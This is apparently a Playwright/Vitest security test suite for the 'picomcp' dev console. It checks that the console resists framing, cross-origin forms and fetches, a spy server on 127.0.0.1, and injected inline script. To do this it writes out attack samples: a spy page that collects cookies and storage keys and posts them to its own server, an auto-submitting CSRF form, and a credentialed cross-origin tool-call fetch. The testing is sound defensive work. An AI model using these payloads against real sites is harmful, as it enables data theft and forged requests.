/**
 * The dev console attacked in a real browser: opened without its secret or with a wrong one, framed by
 * a page of another origin (and of another site), driven by that page's forms and fetches, spied on by
 * another server on 127.0.0.1 that the same browser visits, and made to run an inline script. Only the
 * address the `picomcp` command prints opens it.
 */
import { type ChildProcess, spawn } from "node:child_process";
import { createServer, type Server } from "node:http";
import { fileURLToPath } from "node:url";
import type { BrowserContext, Page } from "playwright-core";
import { afterAll, beforeAll, describe, expect, it } from "vitest";
import type { DevRunner } from "../../src/dev/runner.js";
import { BROWSER_TIMEOUT, chromiumFor, launchBrowser, poll } from "../browser.js";
import { cleanUp, project, raw, secretOf, start, status, toolCall } from "../dev-helpers.js";

const cli = fileURLToPath(new URL("../../dist/dev/cli.js", import.meta.url));
const chromium = await chromiumFor("the dev console's defences in chromium");

/** A tool that keeps every value it is called with: what ran. */
const RECORDER = `const seen = [];
server.tool("record", {
  input: { type: "object", properties: { value: { type: "string" } }, required: ["value"] },
  run: ({ value }) => (seen.push(value), JSON.stringify(seen)),
});`;

let browser: BrowserContext;
beforeAll(async () => {
  if (chromium) browser = await launchBrowser(chromium);
}, BROWSER_TIMEOUT);
afterAll(async () => {
  await browser?.close();
  await cleanUp();
});

/** Runs the `picomcp` command as a user would, and resolves with the address it prints. */
function picomcpDev(entry: string): Promise<{ url: string; child: ChildProcess }> {
  const child = spawn(process.execPath, [cli, "dev", entry, "--port", "0"], {
    stdio: ["ignore", "pipe", "pipe"],
  });
  return new Promise((done, fail) => {
    let out = "";
    child.stdout!.on("data", (c) => {
      out += c;
      if (out.includes("\n")) done({ url: out.split("\n")[0]!, child });
    });
    child.on("exit", (code) => fail(new Error(`picomcp dev exited (${code}) before printing its address`)));
  });
}

describe.skipIf(!chromium)("the secret, in chromium", { timeout: BROWSER_TIMEOUT }, () => {
  it("opens the console at the printed address, keeps the secret in this tab's sessionStorage, no cookie, and drops it from the address bar", async () => {
    const { url, child } = await picomcpDev(project(RECORDER).entry);
    const page = await browser.newPage();
    try {
      expect(url).toMatch(/^http:\/\/127\.0\.0\.1:\d+\/#[\w-]{43}$/);
      const { origin, hash } = new URL(url);
      // what the browser sent: no request carries the fragment
      const sent: string[] = [];
      page.on("request", (r) => sent.push(`${r.url()} ${JSON.stringify(r.headers())}`));
      await page.goto(url);
      await poll(() => page.locator("#tools li").allTextContents()).toEqual(["record"]);
      expect(page.url()).toBe(`${origin}/`);
      expect(
        await page.evaluate(() => [
          document.cookie,
          location.href,
          sessionStorage.getItem("picomcp-dev-secret"),
        ]),
      ).toEqual(["", `${origin}/`, hash.slice(1)]);
      expect(await browser.cookies(origin)).toEqual([]);
      await page.locator("#tools li").first().click();
      await page.fill("#f-value", "from the page");
      await page.getByRole("button", { name: "Call" }).click();
      await poll(() => page.locator("#detail .result").textContent()).toBe('["from the page"]');
      // a reload keeps the secret (sessionStorage), and the page works on
      await page.reload();
      await poll(() => page.locator("#tools li").allTextContents()).toEqual(["record"]);
      // the secret went out only in its header, to the console, on the endpoints that need it
      const carrying = sent.filter((r) => r.includes(hash.slice(1)));
      expect(carrying.length).toBeGreaterThan(0);
      for (const r of carrying)
        expect(r).toMatch(
          new RegExp(`^${origin}/(events|send|restart)\\b.*"x-picomcp-secret":"${hash.slice(1)}"`),
        );
    } finally {
      await page.close();
      child.kill("SIGTERM");
    }
  });

  it("does nothing for a tab with no secret, or a wrong one: it says to open the printed address", async () => {
    const dev = await start(project(RECORDER).entry);
    const fresh = await launchBrowser(chromium!);
    try {
      for (const url of [`${dev.origin}/`, `${dev.origin}/#not-the-secret`]) {
        const page = await fresh.newPage();
        const refused: number[] = [];
        page.on("response", (r) => {
          if (/\/(events|send|restart)/.test(r.url())) refused.push(r.status());
        });
        await page.goto(url);
        await poll(() => page.locator("#detail").getAttribute("data-screen")).toBe("lost");
        expect(await page.locator("#detail").textContent()).toContain(
          "Open the address it printed in its terminal (http://127.0.0.1:…/#…).",
        );
        await poll(() => refused.length).toBeGreaterThanOrEqual(2);
        expect([...new Set(refused)]).toEqual([401]);
        await page.close();
      }
      // a page that never had the secret restarted nothing and sent nothing
      expect(await status(dev)).toMatchObject({ state: "running", generation: 1 });
      // the printed address pasted into such a tab (only its fragment differs) opens the console
      const page = await fresh.newPage();
      await page.goto(`${dev.origin}/#not-the-secret`);
      await poll(() => page.locator("#detail").getAttribute("data-screen")).toBe("lost");
      await page.goto(dev.url);
      await poll(() => page.locator("#tools li").allTextContents()).toEqual(["record"]);
      expect(page.url()).toBe(`${dev.origin}/`);
    } finally {
      await fresh.close();
    }
  });

  it("gives another server on 127.0.0.1, visited by the same browser, nothing secret, and what it gets runs nothing", async () => {
    const dev = await start(project(RECORDER).entry);
    const secret = secretOf(dev);
    // the spy: a server on another port of 127.0.0.1 that keeps every request, and a page that looks
    // for the secret wherever a page of its origin can, and tries the console with the browser's credentials
    const seen: { url: string; headers: Record<string, unknown>; body: string }[] = [];
    const spy = createServer((req, res) => {
      let body = "";
      req.on("data", (c) => (body += c));
      req.on("end", () => {
        seen.push({ url: req.url ?? "", headers: req.headers, body });
        res.writeHead(200, { "content-type": "text/html" }).end(req.url === "/" ? SPY_PAGE(dev.origin) : "");
      });
    });
    await new Promise<void>((ok) => spy.listen(0, "127.0.0.1", ok));
    const spyOrigin = `http://127.0.0.1:${(spy.address() as { port: number }).port}`;
    const tab = await browser.newPage();
    try {
      await tab.goto(dev.url);
      await tab.locator("#tools li", { hasText: "record" }).waitFor({ timeout: 60_000 });
      const driven = await status(dev);
      // the person visits the spy in another tab, then in the console's own tab (a link out of it)
      const other = await browser.newPage();
      await other.goto(spyOrigin);
      await poll(() => seen.filter((r) => r.url === "/report").length).toBe(1);
      await other.close();
      await tab.evaluate((to) => {
        location.href = to;
      }, spyOrigin);
      await poll(() => seen.filter((r) => r.url === "/report").length).toBe(2);
      // what the spy's page found in the browser: no cookie, nothing stored, the console refused it
      for (const report of seen.filter((r) => r.url === "/report"))
        expect(JSON.parse(report.body)).toEqual({
          cookie: "",
          session: [],
          local: [],
          events: "refused",
          send: "refused",
        });
      // what the spy's server got: no cookie, no referrer from the console, and the secret nowhere
      expect(seen.length).toBeGreaterThanOrEqual(4);
      for (const r of seen) {
        expect(r.headers.cookie).toBeUndefined();
        // the spy's own page names itself as referrer to its own server; the console never does
        expect([undefined, `${spyOrigin}/`]).toContain(r.headers.referer);
        expect(JSON.stringify(r)).not.toContain(secret);
      }
      // a plain local process replays all of it to the console: refused, nothing runs
      for (const r of seen) {
        const { host: _, ...headers } = r.headers;
        const replay = await raw(
          dev.origin,
          "POST",
          "/send",
          {
            ...headers,
            host: new URL(dev.origin).host,
            "sec-fetch-site": "same-origin",
            "content-type": "application/json",
          },
          JSON.stringify(toolCall(9, "record", { value: "spy" })),
        );
        expect(replay.status).toBe(401);
      }
      expect(await status(dev)).toEqual(driven);
      // back in the console's tab: it still works, and its first call is the first the server ran
      await tab.goBack();
      await poll(() => tab.locator("#tools li").allTextContents()).toEqual(["record"]);
      await tab.locator("#tools li").first().click();
      await tab.fill("#f-value", "mine");
      await tab.getByRole("button", { name: "Call" }).click();
      await poll(() => tab.locator("#detail .result").textContent()).toBe('["mine"]');
    } finally {
      await tab.close();
      spy.close();
    }
  });
});

/** The spy's page: everything a page of another 127.0.0.1 origin can find or do, reported to its server. */
const SPY_PAGE = (console: string) => `<script>
  const tryIt = (path, init) => fetch(${JSON.stringify(console)} + path, { credentials: "include", ...init })
    .then((r) => String(r.status), () => "refused");
  Promise.all([
    tryIt("/events"),
    tryIt("/send", { method: "POST", headers: { "content-type": "application/json" }, body: "{}" }),
  ]).then(([events, send]) =>
    fetch("/report", { method: "POST", body: JSON.stringify({
      cookie: document.cookie, session: Object.keys(sessionStorage), local: Object.keys(localStorage), events, send,
    }) }));
</script>`;

/** A web server of the attacker's, on another port: `pages` by path, none of the console's headers. */
async function attacker(pages: Record<string, string>): Promise<{ port: number; server: Server }> {
  const server = createServer((req, res) => {
    const body = pages[req.url ?? ""];
    res.writeHead(body === undefined ? 404 : 200, { "content-type": "text/html" }).end(body ?? "");
  });
  await new Promise<void>((ok) => server.listen(0, "127.0.0.1", ok));
  return { port: (server.address() as { port: number }).port, server };
}

describe.skipIf(!chromium)("another origin's page, in chromium", { timeout: BROWSER_TIMEOUT }, () => {
  let dev: DevRunner;
  let tab: Page;
  let evil: { port: number; server: Server };
  /** The runner's status once the person's tab drives the server: no attack may change it. */
  let driven: object;

  beforeAll(async () => {
    dev = await start(project(RECORDER).entry);
    // the person has the console open: its tab holds the secret
    tab = await browser.newPage();
    await tab.goto(dev.url);
    await tab.locator("#tools li", { hasText: "record" }).waitFor({ timeout: 60_000 });
    driven = await status(dev);
    expect(driven).toMatchObject({ state: "running", generation: 2, owner: expect.any(String) });
    const send = JSON.stringify({
      jsonrpc: "2.0",
      id: "evil",
      method: "tools/call",
      params: { name: "record", arguments: { value: "evil" } },
    });
    evil = await attacker({
      "/frame": `<p>a page with a game</p><iframe id="console" src="${dev.origin}/"></iframe><iframe id="own" src="/inner"></iframe>`,
      "/inner": "<p id=inner>an ordinary frame</p>",
      "/form": `<form method="POST" action="${dev.origin}/restart"></form><script>document.forms[0].submit()</script>`,
      "/fetch": `<script>
        fetch(${JSON.stringify(`${dev.origin}/send`)}, { method: "POST", mode: "no-cors", credentials: "include",
          headers: { "content-type": "text/plain" }, body: ${JSON.stringify(send)} });
      </script>`,
    });
  }, BROWSER_TIMEOUT);
  afterAll(() => evil?.server.close());

  // localhost is another site than 127.0.0.1; 127.0.0.1 on another port is the same site, another origin
  const origins = () => [`http://localhost:${evil.port}`, `http://127.0.0.1:${evil.port}`];

  it("cannot frame the console: the browser refuses it, though it shows the page's own frame", async () => {
    for (const site of origins()) {
      const page = await browser.newPage();
      const refusals: string[] = [];
      page.on("console", (m) => refusals.push(m.text()));
      const asked: string[] = [];
      page.on("request", (r) => asked.push(new URL(r.url()).pathname));
      try {
        await page.goto(`${site}/frame`);
        const frames = () => page.frames().filter((f) => f !== page.mainFrame());
        await poll(() =>
          frames()
            .map((f) => f.url())
            .sort(),
        ).toEqual(["chrome-error://chromewebdata/", `${site}/inner`]);
        // the control: a frame without the console's headers loads, so the refusal is the console's doing
        expect(
          await frames()
            .find((f) => f.url().endsWith("/inner"))!
            .textContent("#inner"),
        ).toBe("an ordinary frame");
        await poll(() => refusals.join("\n")).toContain(
          `Framing '${dev.origin}/' violates the following Content Security Policy directive: "frame-ancestors 'none'"`,
        );
        // the framed console ran nothing: no module loaded, no restart, the person's tab still drives it
        expect(asked.filter((p) => p !== "/frame" && p !== "/inner" && p !== "/")).toEqual([]);
        expect(await status(dev)).toEqual(driven);
        expect(await tab.locator("#detail .taken").count()).toBe(0);
      } finally {
        await page.close();
      }
    }
  });

  it("cannot restart it with a form, or call a tool with a fetch, from either origin", async () => {
    for (const site of origins()) {
      const page = await browser.newPage();
      try {
        const restart = page.waitForResponse((r) => r.url() === `${dev.origin}/restart`);
        await page.goto(`${site}/form`);
        // a form cannot carry the secret's header
        expect((await restart).status()).toBe(401);
        // the fetch reaches the console, which refuses it; its answer never reaches the page (CORP)
        const sent = page.waitForEvent("requestfailed", (r) => r.url() === `${dev.origin}/send`);
        await page.goto(`${site}/fetch`);
        expect((await sent).failure()?.errorText).toBe("net::ERR_BLOCKED_BY_RESPONSE.NotSameOrigin");
      } finally {
        await page.close();
      }
    }
    expect(await status(dev)).toEqual(driven);
    // the person's own call is the first the server ever ran
    await tab.locator("#tools li").first().click();
    await tab.fill("#f-value", "mine");
    await tab.getByRole("button", { name: "Call" }).click();
    await poll(() => tab.locator("#detail .result").textContent()).toBe('["mine"]');
  });

  it("runs no inline script in the console", async () => {
    const blocked = await tab.evaluate(
      () =>
        new Promise<[string, unknown]>((done) => {
          document.addEventListener("securitypolicyviolation", (e) =>
            done([e.violatedDirective, (window as { injected?: unknown }).injected]),
          );
          const script = document.createElement("script");
          script.textContent = "window.injected = true";
          document.body.append(script);
        }),
    );
    expect(blocked).toEqual(["script-src-elem", undefined]);
  });
});
